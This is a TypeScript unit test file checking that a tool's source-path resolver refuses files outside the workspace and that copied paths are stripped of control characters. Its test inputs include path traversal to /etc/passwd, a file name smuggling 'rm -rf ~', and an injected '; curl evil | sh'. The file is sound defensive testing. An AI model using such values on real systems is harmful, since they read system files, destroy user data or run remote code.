import { strict as assert } from 'node:assert';
import { test } from 'node:test';
import { oneLine } from '../../common/oneLine';
import { isInside, sourceCandidates } from '../../src/sourcePath';

const ws = ['/home/u/proj', '/home/u/lib'];
const snapshot = '/home/u/proj/.memlens/train/1.json';

test('a relative frame file is tried against the snapshot folder, then each workspace folder', () => {
  assert.deepEqual(sourceCandidates('model.py', snapshot, ws), {
    ok: true,
    candidates: ['/home/u/proj/.memlens/train/model.py', '/home/u/proj/model.py', '/home/u/lib/model.py'],
  });
  assert.deepEqual(sourceCandidates('/home/u/lib/nn/layer.py', snapshot, ws), { ok: true, candidates: ['/home/u/lib/nn/layer.py'] });
});

test('absolute paths outside the workspace and ../ out of it are refused with the path named', () => {
  assert.deepEqual(sourceCandidates('/etc/passwd', snapshot, ws), { ok: false, message: '/etc/passwd is outside the workspace folders; not opened' });
  // ../../../../etc/passwd from the snapshot's folder and from each workspace folder: all outside.
  const up = sourceCandidates('../../../../etc/passwd', snapshot, ws);
  assert.deepEqual(up, { ok: false, message: '../../../../etc/passwd is outside the workspace folders; not opened' });
  // A sibling folder whose name starts with the workspace's is not inside it.
  assert.equal(sourceCandidates('/home/u/project2/x.py', snapshot, ws).ok, false);
  // Up from the snapshot folder but still in the workspace: kept, the escaping ones dropped.
  assert.deepEqual(sourceCandidates('../../train.py', snapshot, ws), { ok: true, candidates: ['/home/u/proj/train.py'] });
  assert.deepEqual(sourceCandidates('x.py', '/tmp/s.json', []), { ok: false, message: 'x.py is not in a workspace folder (none is open); not opened' });
});

test('a file name with control characters is never opened', () => {
  const r = sourceCandidates('/home/u/proj/a.py\nrm -rf ~', snapshot, ws);
  assert.deepEqual(r, { ok: false, message: 'the snapshot names a file with control characters (/home/u/proj/a.pyrm -rf ~); not opened' });
});

test('isInside: below the folder only', () => {
  assert.equal(isInside('/a/b/c.py', '/a/b'), true);
  assert.equal(isInside('/a/b/..c.py', '/a/b'), true);
  assert.equal(isInside('/a/b', '/a/b'), false);
  assert.equal(isInside('/a/bc/x.py', '/a/b'), false);
  assert.equal(isInside('/a/b/../x.py', '/a/b'), false);
});

test('oneLine: what a click copies is one line without control characters', () => {
  assert.equal(oneLine('/w/a.py\n; curl evil | sh\r\n:12'), '/w/a.py; curl evil | sh:12');
  assert.equal(oneLine('a\u001b[31mb\u0007c\u2028d\u202ee\u009bf'), 'a[31mbcdef');
  assert.equal(oneLine('x'.repeat(10), 5), 'xxxx…');
});
